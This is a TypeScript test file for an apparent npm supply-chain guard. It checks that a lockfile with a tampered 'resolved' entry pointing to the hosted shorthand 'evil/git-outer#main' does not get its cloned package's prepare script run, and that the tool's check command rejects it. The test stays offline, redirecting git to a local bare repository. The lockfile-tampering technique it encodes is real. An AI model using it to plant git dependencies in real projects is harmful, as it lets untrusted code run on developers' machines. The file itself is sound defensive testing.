/**
 * Twelfth wave, H1: a `package-lock.json` `resolved` spelled as a hosted shorthand (`evil/repo#ref`, which npm-package-arg
 * reads as a GitHub repository). npm clones it and, for npm 10 and 11, installs and prepares the clone whatever
 * --ignore-scripts says (tenth wave G1). No network here: git's `url.<base>.insteadOf` (the test's environment, standing in
 * for the host) sends the hosted repository's clone URL to a local bare repository built by the test, as data.
 */
import { existsSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { startRegistry, type TestRegistry } from '@portcullis/test-registry';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { npmDrivers, output, type Driver } from '../src/corpus/drivers.js';
import { corpusPackages } from '../src/corpus/packages.js';
import { cloneConfigRepositories } from '../src/git-repository.js';
import { run, type Project } from '../src/project.js';

let registry: TestRegistry;
const results: string[] = [];
beforeAll(async () => {
  registry = await startRegistry({ packages: corpusPackages });
});
afterAll(async () => {
  await registry?.close();
  if (results.length > 0) process.stdout.write(`\nhosted shorthand results:\n${results.join('\n')}\n`);
});

/**
 * `git-outer` (in `allowUnsigned`, not `scripts.allow`) with a `prepare` that leaves `marker`, installed from a local
 * `git+file:` URL; the lockfile a plain npm writes; `env` sends `https://github.com/evil/` and its ssh form to the bare
 * repository's folder.
 */
async function attack(driver: Driver): Promise<{ project: Project; marker: string; env: NodeJS.ProcessEnv }> {
  const project = await driver.project(registry.url, {}, { signatures: { allowUnsigned: ['git-outer'] }, registries: { [registry.url]: { keys: registry.keys.keys } } });
  const root = join(project.dir, '..', 'repositories');
  const marker = join(project.dir, '..', 'hosted-prepare-ran');
  const { bare, sha } = await cloneConfigRepositories(root, marker, { scripts: { prepare: 'node -e 0' } });
  const manifest = JSON.parse(readFileSync(join(project.dir, 'package.json'), 'utf8'));
  writeFileSync(join(project.dir, 'package.json'), JSON.stringify({ ...manifest, dependencies: { 'git-outer': `git+file://${bare}#${sha}` } }, null, 2));
  const base = `file://${dirname(bare)}/`;
  const env = {
    GIT_CONFIG_COUNT: '2',
    GIT_CONFIG_KEY_0: `url.${base}.insteadOf`,
    GIT_CONFIG_VALUE_0: 'https://github.com/evil/',
    GIT_CONFIG_KEY_1: `url.${base}.insteadOf`,
    GIT_CONFIG_VALUE_1: 'ssh://git@github.com/evil/',
    // Nothing leaves the machine: a tarball download would go to a closed local port.
    npm_config_https_proxy: 'http://127.0.0.1:9',
    npm_config_proxy: 'http://127.0.0.1:9',
    npm_config_noproxy: '127.0.0.1,localhost',
  };
  return { project, marker, env };
}

const allowGit = (driver: Driver) => (driver.tool.version.startsWith('10.') ? [] : ['--allow-git=all']);

const clonePrepared = (driver: Driver) => !driver.tool.version.startsWith('12.');

describe.each(npmDrivers().map((d) => [d.label, d] as const))('%s: a lockfile naming a git dependency by hosted shorthand', (_label, driver) => {
  it('ci from a lockfile whose resolved is evil/git-outer#main (npm clones it from the host): none of its code runs; check refuses it', async () => {
    const { project, marker, env } = await attack(driver);
    const lock = await driver.plain(project, ['install', '--package-lock-only', '--ignore-scripts', ...allowGit(driver)]);
    expect(lock.code, output(lock)).toBe(0);
    const lockPath = join(project.dir, 'package-lock.json');
    writeFileSync(lockPath, readFileSync(lockPath, 'utf8').replace(/"resolved": "git\+file:[^"]*"/, '"resolved": "evil/git-outer#main"'));
    rmSync(marker, { force: true });
    const r = await driver.frozen(project, allowGit(driver), env);
    const check = await run('node', [join(import.meta.dirname, '../../cli/dist/portcullis.js'), 'check'], { cwd: project.dir, env: project.env });
    results.push(`${driver.label} | ci exit ${r.code} | clone code ran: ${existsSync(marker)} | check exit ${check.code}`);
    expect(existsSync(marker), output(r)).toBe(false);
    expect(r.code, output(r)).toBe(clonePrepared(driver) ? 1 : 0);
    if (clonePrepared(driver)) expect(output(r)).toContain('SCRIPT_NOT_ALLOWED');
    expect(check.code, output(check)).toBe(1);
    expect(output(check)).toContain('git-outer');
  }, 120_000);
});
